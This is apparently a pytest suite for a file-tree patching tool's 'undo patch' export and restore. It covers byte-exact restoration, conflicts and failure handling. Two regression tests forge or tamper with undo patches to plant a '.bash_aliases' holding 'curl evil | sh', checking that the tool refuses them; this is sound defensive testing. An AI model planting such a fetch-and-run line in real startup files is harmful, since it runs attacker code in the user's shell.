"""`layover apply --undo-to FILE` and `layover undo FILE` through the real
pipeline (run -> apply -> undo), as an unprivileged user: the exported undo
patch is an ordinary layover patch that gives the tree back byte-exact, and
refuses (writing nothing) once the tree was edited after the apply."""
import json
import os
import stat
import subprocess
from pathlib import Path

from apply_util import copy_tree, read_patch, tree
from conftest import snapshot

SETUP = r"""
set -e
echo 'to be a link' > becomes_link.txt
echo 'mode me' > mode.txt; chmod 640 mode.txt
mkdir -p gone/deep; echo g1 > gone/deep/g1; echo same > gone/h1; ln gone/h1 gone/h2
chmod 750 gone/deep
python3 -c "import os; os.setxattr('gone/deep/g1', 'user.tag', b'\x00orig')"
touch -d '2001-02-03 04:05:06.123456789' notes.txt gone/deep/g1 mode.txt becomes_link.txt
"""

EDIT = r"""
set -e
echo 'one more line' >> notes.txt
echo new > added.txt
mkdir -p newdir/sub; echo deep > newdir/sub/f
rm docs/readme.txt
rm -r gone old
chmod 600 mode.txt
rm becomes_link.txt; ln -s notes.txt becomes_link.txt
"""


def sh(script, cwd):
    subprocess.run(["/bin/sh", "-c", script], cwd=str(cwd), check=True)


def mtimes(root):
    """mtime_ns of every regular file and symlink (dirs change as entries come and go)."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(str(root)):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            if not stat.S_ISDIR(st.st_mode):
                out[os.path.relpath(p, str(root))] = st.st_mtime_ns
    return out


def session(lo, script=EDIT, name="u"):
    r = lo.run("cd '%s' && %s" % (lo.target, script), session=name)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    return name


def apply_undo_to(lo, name, undo_file, *extra, **kw):
    r = lo("apply", name, "--yes", "--json", "--undo-to", undo_file, *extra, **kw)
    out = json.loads(r.stdout.decode() or "null")
    return r, out


def prepared(lo, tmp_path):
    sh(SETUP, lo.target)
    before = (snapshot(lo.target), mtimes(lo.target), tree(lo.target))
    copy_tree(lo.target, tmp_path / "orig")
    return before


def test_undo_patch_from_apply_restores_the_tree_byte_exact_and_removes_the_spent_record(lo, tmp_path):
    before = prepared(lo, tmp_path)
    name = session(lo)
    undo_file = tmp_path / "undo.tar.zst"
    r, out = apply_undo_to(lo, name, undo_file)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert out["error"] is None and out["undo_patch"] == str(undo_file)
    assert (lo.target / "becomes_link.txt").is_symlink() and not (lo.target / "gone").exists()
    assert stat.S_IMODE(undo_file.stat().st_mode) == 0o600
    assert not [p for p in os.listdir(str(tmp_path)) if ".tmp-" in p]

    # An ordinary patch: tar lists it, and its manifest says what it is.
    listing = subprocess.run(["tar", "--zstd", "-tf", str(undo_file)], capture_output=True, check=True)
    names = listing.stdout.decode().split()
    assert names[0] == ".layover/manifest.json" and names[-1] == ".layover/sums"
    for n in (".wh.added.txt", ".wh.newdir", "gone/", "gone/deep/g1", "gone/h1", "gone/h2", "docs/readme.txt",
              "old/sub/b.txt", "notes.txt", "mode.txt", "becomes_link.txt"):
        assert n in names, (n, names)
    manifest, members = read_patch(undo_file)
    assert manifest["kind"] == "undo" and manifest["undo_store"].startswith(("undo/", ".layover-undo/"))
    kinds = {c["path"]: c["kind"] for c in manifest["changes"]}
    assert kinds["added.txt"] == "deleted" and kinds["gone"] == "added" and kinds["mode.txt"] == "metadata"
    assert kinds["becomes_link.txt"] == "type_changed" and kinds["notes.txt"] == "modified"
    h2 = [m for m, _ in members if m.name == "gone/h2"][0]
    assert h2.islnk() and h2.linkname == "gone/h1"
    show = json.loads(lo("show", undo_file, "--json", check=True).stdout)
    assert {c["path"] for c in show} == set(kinds)

    r = lo("undo", undo_file, "--target", lo.target)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert "removed the spent undo record" in r.stdout.decode()
    snap, times, full = before
    assert snapshot(lo.target) == snap
    assert mtimes(lo.target) == times
    assert tree(lo.target) == full  # user.* xattrs and the gone/h1 = gone/h2 hard link too
    assert not (lo.target / ".layover-undo").exists()


def test_undo_patch_restores_a_copy_of_the_applied_tree_given_by_relative_target(lo, tmp_path):
    before = prepared(lo, tmp_path)
    name = session(lo)
    undo_file = tmp_path / "undo.tar.zst"
    r, out = apply_undo_to(lo, name, undo_file)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    copy = tmp_path / "copy"
    subprocess.run(["cp", "-a", str(lo.target), str(copy)], check=True)
    subprocess.run(["rm", "-rf", str(copy / ".layover-undo")], check=True)
    # No undo store of the copy vouches for the patch: it takes --yes.
    copied = snapshot(copy)
    r = lo("undo", "undo.tar.zst", "--target", "copy", cwd=tmp_path)
    assert r.returncode == 1 and b"then undo again with --yes" in r.stderr, r.stderr
    assert snapshot(copy) == copied
    r = lo("undo", "undo.tar.zst", "--target", "copy", "--yes", cwd=tmp_path)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    snap, times, full = before
    assert snapshot(copy) == snap and mtimes(copy) == times and tree(copy) == full
    # The applied tree itself is untouched, its own undo record still works.
    assert (lo.target / "added.txt").read_text() == "new\n"
    r = lo("undo", out["undo"])
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert snapshot(lo.target) == snap


def test_undo_patch_reports_a_conflict_after_a_later_edit_and_writes_nothing(lo, tmp_path):
    prepared(lo, tmp_path)
    name = session(lo)
    undo_file = tmp_path / "undo.tar.zst"
    r, out = apply_undo_to(lo, name, undo_file)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    # Same size, other bytes: only the fingerprint can tell; and a new file in a dir the undo removes.
    text = (lo.target / "added.txt").read_text()
    (lo.target / "added.txt").write_text(text.upper())
    (lo.target / "newdir" / "sub" / "later.txt").write_text("later\n")
    after = (snapshot(lo.target), mtimes(lo.target))
    r = lo("undo", undo_file, "--json", "--target", lo.target)
    assert r.returncode == 1
    res = json.loads(r.stdout)
    conflicts = {c["path"]: c["reason"] for c in res["conflicts"]}
    assert "content changed" in conflicts["added.txt"]
    assert "newdir/sub/later.txt" in conflicts
    assert res["applied"] == []
    assert (snapshot(lo.target), mtimes(lo.target)) == after
    assert len(json.loads(lo("undo", "--list", "--target", lo.target, "--json").stdout)) == 1  # the record stays
    r = lo("undo", undo_file, "--target", lo.target)
    assert r.returncode == 1 and b"conflict" in r.stderr and b"added.txt" in r.stderr


def test_apply_undo_to_a_bad_place_fails_before_touching_the_tree(lo, tmp_path):
    prepared(lo, tmp_path)
    name = session(lo)
    before = (snapshot(lo.target), mtimes(lo.target))
    for bad, why in ((tmp_path / "no" / "such" / "dir" / "u.tar.zst", b"--undo-to"),
                     (lo.target / "u.tar.zst", b"inside the target")):
        r = lo("apply", name, "--yes", "--undo-to", bad)
        assert r.returncode == 1, r.stderr
        assert why in r.stderr and b"nothing was applied" in r.stderr
        assert (snapshot(lo.target), mtimes(lo.target)) == before
        assert not bad.exists()
    assert not (lo.target / ".layover-undo").exists()


def test_apply_undo_to_write_failure_keeps_the_apply_and_its_undo_record(lo, tmp_path):
    before = prepared(lo, tmp_path)
    name = session(lo)
    undo_file = tmp_path / "undo.tar.zst"
    r, out = apply_undo_to(lo, name, undo_file, env={"LAYOVER_FAULT": "apply:undo-to:1"})
    assert r.returncode == 1
    assert "undo patch was not written" in out["error"] and out["undo"] in out["error"]
    assert out["undo_patch"] is None and b"undo patch was not written" in r.stderr
    assert (lo.target / "added.txt").exists()  # the apply stands
    assert not undo_file.exists() and not [p for p in os.listdir(str(tmp_path)) if ".tmp-" in p]
    r = lo("undo", out["undo"])
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert snapshot(lo.target) == before[0] and mtimes(lo.target) == before[1]


def test_undo_refuses_an_ordinary_patch(lo, tmp_path):
    prepared(lo, tmp_path)
    name = session(lo)
    patch = tmp_path / "p.tar.zst"
    lo("save", name, "-o", patch, check=True)
    before = snapshot(lo.target)
    r = lo("undo", patch)
    assert r.returncode == 1 and b"not an undo patch" in r.stderr and b"layover apply" in r.stderr
    assert snapshot(lo.target) == before


def test_undo_patch_restores_every_capture_matrix_case(lo, tmp_path):
    # fifos, a remade dir, dir<->file, link<->file, hard links updated in place,
    # xattrs, names that are not UTF-8: each undone by the exported patch.
    from test_apply import MATRIX_EDIT, prepare
    orig, _ = prepare(lo, tmp_path)
    before = tree(lo.target, mtimes=True)
    session(lo, MATRIX_EDIT, name="m")
    undo_file = tmp_path / "m-undo.tar.zst"
    r, out = apply_undo_to(lo, "m", undo_file)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    manifest, _ = read_patch(undo_file)
    kinds = {c["path"]: c["kind"] for c in manifest["changes"]}
    # opq/ was removed and remade: its old entries come back, its new one goes.
    assert kinds["opq/a"] == "added" and kinds["opq/inner"] == "added" and kinds["opq/c"] == "deleted"
    assert kinds["hl_a"] == "modified" and kinds["f2d"] == "type_changed"
    r = lo("undo", undo_file, "--target", lo.target)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert tree(lo.target, mtimes=True) == before
    assert tree(lo.target) == tree(orig)
    assert os.stat(str(lo.target / "hl_a")).st_ino == os.stat(str(lo.target / "hl_b")).st_ino
    assert not (lo.target / ".layover-undo").exists()


def test_apply_deletes_both_links_of_a_hard_linked_file_and_undo_patch_relinks_them(lo, tmp_path):
    # Moving one link aside changes the shared inode's ctime: the re-check of
    # the other link must not take that for a concurrent edit.
    sh("echo shared > ha; ln ha hb", lo.target)
    before = tree(lo.target, mtimes=True)
    session(lo, "rm ha hb", name="h")
    undo_file = tmp_path / "h.tar.zst"
    r, out = apply_undo_to(lo, "h", undo_file)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert not (lo.target / "ha").exists() and not (lo.target / "hb").exists()
    r = lo("undo", undo_file, "--target", lo.target)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert tree(lo.target, mtimes=True) == before
    assert os.stat(str(lo.target / "ha")).st_ino == os.stat(str(lo.target / "hb")).st_ino


def test_undo_patch_retires_only_its_own_undo_record(lo, tmp_path):
    before = snapshot(lo.target)
    session(lo, "echo first > first.txt", name="a1")
    session(lo, "echo second > second.txt", name="a2")
    r, out1 = apply_undo_to(lo, "a1", tmp_path / "a1.tar.zst")
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    r, out2 = apply_undo_to(lo, "a2", tmp_path / "a2.tar.zst")
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    r = lo("undo", tmp_path / "a1.tar.zst", "--target", lo.target)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert not (lo.target / "first.txt").exists() and (lo.target / "second.txt").exists()
    assert not Path(out1["undo"]).exists() and Path(out2["undo"]).is_dir()
    r = lo("undo", out2["undo"])
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert snapshot(lo.target) == before


def test_a_hand_made_undo_patch_is_not_restored_without_yes(lo, tmp_path):
    """Found by the attack pass of 27 Nov: `"kind": "undo"` is a manifest
    field anyone can write, and `layover undo FILE` applied such a patch at
    once, listing and asking nothing, with no --yes and no terminal, no risk
    marks or secret check, and no undo record: a `.bash_aliases` from a
    patch sent as "the undo of my change" landed unseen. Now only an undo
    patch whose undo store this tree still holds goes without --yes."""
    import sys
    sys.path.insert(0, os.path.dirname(__file__))
    from patch_builder import PatchBuilder
    b = PatchBuilder(lo.target, session="")
    b.manifest["kind"] = "undo"
    b.manifest["command"] = []
    b.file(".bash_aliases", b"curl evil | sh\n")
    evil = b.write(tmp_path / "evil-undo.tar.zst")
    before = snapshot(lo.target)
    r = lo("undo", evil, "--target", lo.target)
    assert r.returncode == 1, r.stderr
    assert b"is an undo patch of no apply this tree's undo records know" in r.stderr
    assert b"nothing was restored" in r.stderr and snapshot(lo.target) == before
    r = lo("undo", evil, "--target", lo.target, "--dry-run")  # a dry run writes nothing: it shows
    assert r.returncode == 0 and b".bash_aliases" in r.stdout, r.stderr
    r = lo("undo", evil, "--target", lo.target, "--yes")
    assert r.returncode == 0, r.stderr
    assert (lo.target / ".bash_aliases").read_text() == "curl evil | sh\n"


def test_an_undo_patch_with_a_change_its_undo_store_does_not_hold_is_not_restored_without_yes(lo, tmp_path):
    """Found by attack14 (27 Nov): the check that let `undo FILE` go without
    --yes asked only that every path of the tree's undo record be a change of
    the patch, not the converse. The exported undo patch of a real apply, with
    one more change added (a `.bash_aliases`: a patch anyone who can write
    FILE can remake, an agent's session over the dir that keeps it too), or a
    restored file's content or mode replaced, was restored at once, listing
    and asking nothing. Now every change must be a path of the record or an
    entry beneath one, and restore what the undo store keeps there."""
    import sys
    import tarfile
    sys.path.insert(0, os.path.dirname(__file__))
    from patch_builder import PatchBuilder, compress, tar_bytes, with_sums
    prepared(lo, tmp_path)
    name = session(lo)
    undo_file = tmp_path / "undo.tar.zst"
    r, out = apply_undo_to(lo, name, undo_file)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    after = snapshot(lo.target)
    evil_text = b"curl evil | sh\n"

    def added(path):  # beside the record's paths, or beneath one
        def edit(manifest, payload):
            extra = PatchBuilder(lo.target).file(path, evil_text)
            manifest["changes"] += extra.manifest["changes"]
            manifest["base"] += extra.manifest["base"]
            return payload + extra.members
        return edit

    def content(manifest, payload):  # notes.txt, which the apply modified: other bytes restored
        c = next(c for c in manifest["changes"] if c["path"] == "notes.txt")
        c["size"] = len(evil_text)
        return [(i, evil_text if i.name == "notes.txt" else d) for i, d in payload]

    def mode(manifest, payload):  # mode.txt, whose mode the apply changed: 0777 restored
        next(c for c in manifest["changes"] if c["path"] == "mode.txt")["mode"] = 0o777
        for i, _ in payload:
            if i.name == "mode.txt":
                i.mode = 0o777
        return payload

    # gone/: a dir the apply deleted, which undo restores.
    for edit in (added(".bash_aliases"), added("gone/run.sh"), content, mode):
        manifest, members = read_patch(undo_file)
        payload = edit(manifest, [(i, d) for i, d in members[1:] if i.name != ".layover/sums"])
        text = json.dumps(manifest, indent=1).encode()
        evil = compress(tar_bytes(with_sums([(tarfile.TarInfo(".layover/manifest.json"), text)] + payload)),
                        tmp_path / "evil-undo.tar.zst")
        r = lo("undo", evil, "--target", lo.target)
        assert r.returncode == 1, (edit, r.stdout)
        assert b"is an undo patch of no apply this tree's undo records know" in r.stderr, r.stderr
        assert snapshot(lo.target) == after
    # The patch as exported still goes without --yes.
    r = lo("undo", undo_file, "--target", lo.target)
    assert r.returncode == 0, r.stderr.decode(errors="replace")
    assert not (lo.target / ".bash_aliases").exists() and not (lo.target / "gone" / "run.sh").exists()
